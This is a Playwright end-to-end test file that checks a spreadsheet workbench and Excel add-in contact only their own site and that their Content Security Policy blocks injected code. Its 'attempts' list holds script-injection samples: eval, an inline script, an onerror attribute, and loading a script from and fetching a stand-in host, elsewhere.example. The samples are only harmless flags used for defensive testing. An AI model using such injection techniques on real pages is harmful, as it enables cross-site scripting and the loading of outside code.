import type { Browser, Page } from 'playwright-core';
import { writeXlsx } from '../../src/xlsx/write/writeXlsx';
import { languages } from '../../src/language';
import { fileTexts, type FileTexts } from '../../src/ui/files/fileTexts';
import { fullPlan } from '../xlsx/fullPlan';
import { doEverything } from './doEverything';
import { eventually } from './eventually';
import { launchBrowser, pageAddress } from './launchBrowser';
import { officeAddress, openExcelPane, selectInExcel } from './openExcelPane';
import { SheetPage } from './SheetPage';

jest.setTimeout(120_000);

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

const elsewhere = (requests: readonly string[]) =>
  requests.filter(
    (address) => !/^(data|blob):/.test(address) && !address.startsWith(pageAddress('')),
  );

describe.each(languages)('in %s a user does everything', (language) => {
  test('the workbench makes requests to its own site only', async () => {
    const sheet = await SheetPage.open(browser, `?lang=${language}`);
    await doEverything(sheet.page, language, (place) => sheet.click(`A${place * 16 - 8}`));
    await saveAndOpen(sheet.page, fileTexts.in(language));
    expect(sheet.requests.length).toBeGreaterThan(10);
    expect(elsewhere(sheet.requests)).toEqual([]);
    expect(sheet.errors).toEqual([]);
    await sheet.page.context().close();
  });

  test('in Excel requests go to its own site, and to Microsoft for office.js', async () => {
    const { page, requests, errors } = await openExcelPane(browser, language);
    await doEverything(page, language, (place) => selectInExcel(page, place * 40, 0));
    expect(elsewhere(requests)).toEqual([`${officeAddress}office.js`]);
    expect(errors).toEqual([]);
    await page.close();
  });
});

test('a help page makes no requests', async () => {
  const page = await browser.newPage();
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await page.goto(pageAddress('help.html'));
  expect(elsewhere(requests)).toEqual([]);
  await page.close();
});

/** What a stranger's text would try, once it had got into a page; each answers whether it came through. */
const attempts: readonly (readonly [string, string])[] = [
  ['text run by eval', 'try { (0, eval)("globalThis.broken = true") } catch {}'],
  ['text made a function', 'try { new Function("globalThis.broken = true")() } catch {}'],
  [
    'an inline script',
    `const script = document.createElement('script');
     try { script.textContent = 'globalThis.broken = true'; document.head.append(script) } catch {}`,
  ],
  [
    'an attribute that is a script',
    `const image = document.createElement('img');
     try { image.setAttribute('onerror', 'globalThis.broken = true') } catch {}
     image.src = 'nowhere.png'; document.body.append(image);`,
  ],
  [
    'a script from elsewhere',
    `const script = document.createElement('script');
     try { script.src = 'https://elsewhere.example/broken.js'; document.head.append(script) } catch {}`,
  ],
  [
    'a message to elsewhere',
    `fetch('https://elsewhere.example/').then(() => (broken = true), () => {})`,
  ],
  ['a message home', `fetch('index.html').then(() => (broken = true), () => {})`],
];

describe.each(['workbench.html', 'taskpane.html', 'help.html'])('%s refuses', (file) => {
  let page: Page;
  beforeAll(async () => {
    page = await browser.newPage();
    // Whatever gets out is answered, so that only the page's own policy can stop it.
    await page.route('https://**', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        headers: { 'Access-Control-Allow-Origin': '*' },
        body: 'globalThis.broken = true;',
      }),
    );
    await page.addInitScript(() => {
      Object.assign(globalThis, { refused: [] });
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        (globalThis as unknown as { refused: string[] }).refused.push(effectiveDirective),
      );
    });
    await page.goto(pageAddress(file));
  });
  afterAll(() => page.close());

  test.each(attempts)('%s', async (_, attempt) => {
    await page.evaluate('globalThis.broken = false; globalThis.refused.length = 0');
    // Later: what the tools of the browser run themselves, it lets through.
    await page.evaluate(`setTimeout(() => { ${attempt} })`);
    await eventually(() => page.evaluate('globalThis.refused.length > 0'), true);
    expect(await page.evaluate('globalThis.broken')).toBe(false);
  });
});

async function saveAndOpen(page: Page, words: FileTexts): Promise<void> {
  await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: words.save }).click(),
  ]);
  const [chooser] = await Promise.all([
    page.waitForEvent('filechooser'),
    page.getByRole('button', { name: words.open }).click(),
  ]);
  const file = Buffer.from(await writeXlsx([fullPlan], new Date('2024-07-27')));
  await chooser.setFiles({ name: 'full.xlsx', mimeType: 'application/zip', buffer: file });
  await page.getByRole('button', { name: words.replace }).click();
  await page.getByText(words.openedTitle).first().waitFor();
}
